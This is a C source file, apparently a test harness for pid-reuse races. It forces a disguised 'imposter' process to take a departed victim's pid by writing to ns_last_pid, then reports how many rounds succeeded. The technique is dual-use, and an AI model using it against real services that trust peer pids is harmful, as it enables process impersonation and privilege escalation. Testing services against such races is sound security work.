/*
 * Attacks by pid reuse, in a pid namespace of its own: a victim connects and
 * ends, and another process is given its number at once. Reads a byte after
 * each round from standard input; writes "i" when an imposter is in place, and
 * at the end "hits N".
 *
 *   pid-reuse SOCKET ROUNDS ROOT VICTIM [CGROUP VICTIMS-CGROUP]
 *   victim SOCKET ROUND
 *
 * An imposter is wholly another one from its first moment: its root is ROOT, and its program, arguments, name, UTS
 * namespace and cgroup are not those of a victim, which runs the program VICTIM in a cgroup of its own. Each fourth
 * round the victim ends at once, or after a moment, or twice when it is told to.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* Where victims run: outside, as the imposters do not. */
struct outside {
	int root, uts, cgroup;
};

static int victim(const char *path, int round)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char byte;

	srand((unsigned)round);
	if (strlen(path) >= sizeof(address.sun_path))
		return 1;
	strcpy(address.sun_path, path);
	if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0 ||
	    connect(fd, (const struct sockaddr *)&address, sizeof(address)) != 0)
		return 1;
	if (round % 4 == 1)
		usleep((useconds_t)(rand() % 1500));
	if (round % 4 >= 2 && read(fd, &byte, 1) < 0)
		return 1;
	return 0;
}

static pid_t fork_into(int cgroup)
{
	struct clone_args how = { .exit_signal = SIGCHLD };

	if (cgroup >= 0) {
		how.flags = CLONE_INTO_CGROUP;
		how.cgroup = (uint64_t)cgroup;
	}
	return (pid_t)syscall(SYS_clone3, &how, sizeof(how));
}

static void begin_victim(const struct outside *outside, const char *program, const char *path, int round)
{
	char number[16];

	snprintf(number, sizeof(number), "%d", round);
	if (fchdir(outside->root) == 0 && chroot(".") == 0 && setns(outside->uts, CLONE_NEWUTS) == 0)
		execl(program, "victim", path, number, (char *)NULL);
	_exit(1);
}

static void imposter(void)
{
	if (write(1, "i", 1) != 1)
		_exit(1);
	for (;;)
		pause();
}

/* Everything that tells us from a victim, for all imposters that are forked from now on. */
static int pose(const char *root, const char *cgroup)
{
	if (cgroup != NULL) {
		const int processes = open(cgroup, O_WRONLY | O_CLOEXEC);

		if (processes < 0 || write(processes, "0", 1) != 1)
			return -1;
		close(processes);
	}
	return prctl(PR_SET_NAME, "imposter") == 0 && unshare(CLONE_NEWUTS) == 0 && chroot(root) == 0 ? chdir("/") : -1;
}

int main(int argc, char **argv)
{
	struct outside outside = { .cgroup = -1 };
	int hits = 0, status, last;
	char text[4096], byte;

	if (argc == 3)
		return victim(argv[1], atoi(argv[2]));
	if (argc != 5 && argc != 7)
		return 2;
	last = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
	outside.root = open("/", O_PATH | O_CLOEXEC);
	outside.uts = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);
	if (argc == 7) {
		outside.cgroup = open(argv[6], O_PATH | O_CLOEXEC);
		snprintf(text, sizeof(text), "%s/cgroup.procs", argv[5]);
	}
	if (last < 0 || outside.root < 0 || outside.uts < 0 || pose(argv[3], argc == 7 ? text : NULL) != 0)
		return 2;
	for (int round = 0; round < atoi(argv[2]); round++) {
		const pid_t first = fork_into(outside.cgroup);
		pid_t second;

		if (first == 0)
			begin_victim(&outside, argv[4], argv[1], round);
		if (first < 0 || waitpid(first, &status, 0) != first || status != 0)
			return 3;
		snprintf(text, sizeof(text), "%d", first - 1);
		if (pwrite(last, text, strlen(text), 0) < 0)
			return 4;
		second = fork();
		if (second == 0)
			imposter();
		hits += second == first;
		if (read(0, &byte, 1) != 1)
			return 5;
		kill(second, SIGKILL);
		waitpid(second, &status, 0);
	}
	printf("hits %d\n", hits);
	return 0;
}
